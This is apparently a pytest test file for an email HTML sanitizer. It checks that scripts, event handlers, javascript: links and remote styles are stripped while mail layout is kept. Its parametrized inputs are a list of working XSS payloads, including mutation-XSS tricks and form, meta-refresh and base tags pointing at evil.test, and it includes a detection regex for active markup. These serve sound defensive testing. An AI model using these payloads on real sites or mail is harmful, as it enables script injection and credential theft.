"""HTML on its way out (controlplane/sending/writing/sanitize.py; A9): what mail needs is kept, what acts is not."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from controlplane.sending.writing.sanitize import Sanitizer

clean = Sanitizer().clean
ACTIVE = re.compile(
    r"<\s*(script|iframe|object|embed|form|input|button|meta|link|base|svg|math|style|template|frame|applet)\b"
    r"|\son\w+\s*=|(javascript|vbscript|data|file)\s*:|@import|-moz-binding|srcdoc",
    re.IGNORECASE,
)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.test></sCrIpT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href=" &#14; javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="data:text/html,<script>x</script>">x</a>',
        '<a href="vbscript:x">x</a>',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        '<meta http-equiv="refresh" content="0;url=//evil.test">',
        '<base href="//evil.test">',
        '<link rel="stylesheet" href="//evil.test">',
        "<style>@import url(//evil.test)</style>",
        '<iframe src="//evil.test"></iframe>',
        '<iframe srcdoc="<script>x</script>"></iframe>',
        '<object data="x.swf"></object><embed src="x.swf">',
        '<form action="//evil.test"><input name="password"><button>ok</button></form>',
        "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
        "<math><mtext><script>x</script></mtext></math>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<template><script>x</script></template>",
        "<body onload=alert(1)><p>x</p></body>",
        '<p style="-moz-binding: url(//evil.test)">x</p>',
        '<p style="behavior: url(x.htc)">x</p>',
        "<!--[if mso]><script>x</script><![endif]-->",
        "<![CDATA[<script>x</script>]]>",
        "<?xml version='1.0'?><script>x</script>",
        '<div style="position:fixed;top:0" onclick="x()">x</div>',
        "<a href='x' onmouseover=alert(1) onfocus=alert(1) autofocus>x</a>",
        "<p \x00onclick=alert(1)>x</p>",
    ],
)
def test_what_acts_is_gone(html: str) -> None:
    assert not ACTIVE.search(clean(html)), clean(html)


@given(st.lists(st.sampled_from([
    "<", ">", "'", '"', "=", "/", " ", "\t", "\0", "&#x3c;", "script", "svg", "style", "img", "a", "math", "noscript",
    "textarea", "title", "onerror", "href", "src", "javascript:", "alert(1)", "<!--", "-->", "]]>", "<![CDATA[", "x",
]), max_size=25).map("".join))  # fmt: skip
def test_no_mixture_of_tags_acts(html: str) -> None:
    cleaned = clean(html)
    for tag in re.findall(r"<[^>]*>", cleaned):
        assert not ACTIVE.search(tag), cleaned
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize(
    "html",
    [
        '<table width="100%" cellpadding="0" cellspacing="0" border="0"><tbody><tr><td align="center" valign="top" '
        'bgcolor="#ffffff" style="padding:10px">x</td></tr></tbody></table>',
        '<img src="cid:logo@agents.test" alt="logo" width="10" height="10">',
        '<img src="https://elsewhere.test/a.png">',
        '<a href="https://elsewhere.test/?a=1&amp;b=2">x</a>',
        '<a href="mailto:a@elsewhere.test">x</a>',
        '<a href="tel:+4930123">x</a>',
        "<h1>a</h1><p>b<br>c</p><ul><li>d</li></ul><blockquote>e</blockquote><pre>f</pre>",
        "<p>Gr\u00fc\u00dfe \U0001f600 &lt;b&gt; &amp;</p>",
        '<details open=""><summary>a</summary>b</details>',
        '<p hidden="">a</p>',
    ],
)
def test_what_mail_needs_is_kept(html: str) -> None:
    assert clean(html) == html


def test_inline_styles_are_kept_property_by_property() -> None:
    kept = clean(
        '<p style="color: red; position: fixed; font-size: 12px; background-image: url(//evil.test)">x</p>'
    )
    assert "color" in kept and "font-size" in kept
    assert "position" not in kept and "evil" not in kept


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("background:url(https://a.test/b.png)", "background:url(https://a.test/b.png)"),
        ("background:url('cid:b@c') red", "background:url(&quot;cid:b@c&quot;) red"),
        ("color:red;background:url(b.png) #eee", "color:red;background:none #eee"),
        ("color:red;background:url() #eee", "color:red;background:none #eee"),
        ("background:url('b\\'c\\)') red;color:red", "background:none red;color:red"),
        ("font-family:'url(x'", "font-family:&quot;url(x&quot;"),
    ],
)
def test_a_style_keeps_what_stands_beside_a_picture_that_may_not_be_fetched(style: str, kept: str) -> None:
    assert clean(f'<p style="{style}">x</p>') == f'<p style="{kept}">x</p>'


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        (
            '<html><body style="background:#111;margin:0"><p style="color:#eee">x</p></body></html>',
            '<div style="background:#111;margin:0"><p style="color:#eee">x</p></div>',
        ),
        (
            "<BODY\nonload=x() BGCOLOR='#111111' style='color:white'>x</BODY>",
            '<div style="background-color:#111111"><div bgcolor="#111111" style="color:white">x</div></div>',
        ),
        (
            "<body bgcolor=black text=#eeeeee>x",
            '<div style="background-color:black;color:#eeeeee"><div bgcolor="black">x</div></div>',
        ),
        ('<body text="white">x', '<div style="color:white"><div>x</div></div>'),
        (
            '<!--[if mso]><body style="color:red"><![endif]--><!--[if !mso]><!--><body style="color:#eee">x',
            '<div style="color:#eee">x</div>',
        ),
        ("<body class=x><p>y</p></body>", "<p>y</p>"),
        ('<body style="position:fixed;top:0">x</body>', '<div style="">x</div>'),
    ],
)
def test_words_stay_on_the_ground_that_the_body_gives_them(html: str, kept: str) -> None:
    assert clean(html).replace("; ", ";").replace(": ", ":") == kept


def test_many_bodies_are_no_work_and_no_depth() -> None:
    html = "<body style=color:red bgcolor=red " * 20_000 + ">" + "<body style=color:red>x" * 20_000
    assert clean(html).count("<div") <= 10


def test_words_survive_whatever_stands_around_them() -> None:
    assert clean("<form>kept <script>gone</script><blink>kept too</blink></form>") == "kept kept too"
    assert clean("<object data=a.swf><param name=a><p>kept</p></object>") == "<p>kept</p>"
    assert clean("") == ""
    assert clean("plain < text & more") == "plain &lt; text &amp; more"


@pytest.mark.parametrize("name", ["noembed", "noframes"])
def test_markup_that_no_browser_reads_does_not_become_words(name: str) -> None:
    assert clean(f"a<{name}><b>no</b> frames</{name}>c") == "ac"


def test_a_large_document_takes_no_time() -> None:
    html = "<div>" * 20_000 + "x" + "</div>" * 20_000
    assert "x" in clean(html)
